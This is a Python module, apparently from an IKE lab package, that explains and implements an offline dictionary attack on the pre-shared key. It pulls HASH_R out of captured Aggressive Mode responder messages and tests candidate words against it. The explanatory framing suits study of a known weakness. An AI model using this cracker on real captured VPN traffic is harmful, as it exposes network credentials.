"""Why Aggressive Mode with a pre-shared key is weak: whoever records one message can try words against it at home.

The responder sends HASH_R in clear before the initiator has proved anything, and its formula needs no Diffie-Hellman
secret: SKEYID = prf(pre-shared-key, Ni_b | Nr_b), HASH_R = prf(SKEYID, ...), and all the rest was heard. So a guess is
right or wrong, and nobody but the guesser knows that it was made.
"""

from __future__ import annotations

import hmac
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

from ikelab.crypto.book import Book, Method
from ikelab.crypto.derived import Derived
from ikelab.crypto.formula import Formula, Prf
from ikelab.ike.conversation import RESPONDER
from ikelab.ike.listen import Followed
from ikelab.wire.numbers import ExchangeType
from ikelab.wire.payloads import ID, Hash


@dataclass(frozen=True, kw_only=True)
class Target:
    """A HASH_R that words can be tried against, and what both formulas hash besides the word.

    algorithm: the prf's hash. keyed_first, keyed_then: the data under the pre-shared key, and under SKEYID.
    """

    frame: int
    cookie_i: bytes
    cookie_r: bytes
    algorithm: str
    keyed_first: bytes
    keyed_then: bytes
    hash_r: bytes

    def made_of(self, word: bytes) -> bytes:
        """What HASH_R would be if this word were the pre-shared key."""
        skeyid = hmac.digest(word, self.keyed_first, self.algorithm)
        return hmac.digest(skeyid, self.keyed_then, self.algorithm)

    def fits(self, word: bytes) -> bool:
        """Whether this word is the pre-shared key."""
        return hmac.compare_digest(self.made_of(word), self.hash_r)


def target_of(followed: Followed) -> Target | None:
    """The target in a followed message, None where it holds none."""
    header, conversation = followed.message.header, followed.conversation
    if header is None or conversation is None or header.exchange != ExchangeType.AGGRESSIVE or header.encrypted:
        return None
    suite, payloads = conversation.suite, followed.message.payloads
    if followed.sender != RESPONDER or suite is None or suite.method is not Method.PSK:
        return None
    hashes = [place for place, payload in enumerate(payloads) if isinstance(payload, Hash)]
    identities = [place for place, payload in enumerate(payloads) if isinstance(payload, ID)]
    if not hashes or not identities:
        return None
    heard = {"IDir_b": followed.message.body(identities[0]), "PSK": b"any word"}
    book = Book(suite.method, None, suite.hash, {**conversation.given, **heard}, cipher=suite.cipher)
    if book.missing("HASH_R"):
        return None
    return Target(
        frame=followed.heard.frame,
        cookie_i=conversation.cookie_i,
        cookie_r=conversation.cookie_r,
        algorithm=book.prf.word,
        keyed_first=_data_under_key(book["SKEYID"]),
        keyed_then=_data_under_key(book["HASH_R"]),
        hash_r=followed.message.body(hashes[0]),
    )


def guess(targets: Iterable[Target], words: Iterable[bytes]) -> Iterator[tuple[int, bytes, Target]]:
    """Try every word on every target until none is left: how many words it took, the word, whose it is.

    Ends with the words, or when the last target has fallen.
    """
    standing = list(targets)
    for count, word in enumerate(words, 1):
        for target in standing:
            if target.fits(word):
                yield count, word, target
                standing = [other for other in standing if other is not target]
        if not standing:
            return


def _data_under_key(secret: object) -> bytes:
    """What the formula `prf(key, data)` of a secret hashes under its key."""
    assert isinstance(secret, Derived)
    (root,) = Formula(secret.formula).root.parts
    assert isinstance(root, Prf)
    values = {made_of.name: made_of.value for made_of in secret.inputs}
    return root.data.evaluate(values, lambda key, data: b"", lambda data: b"")
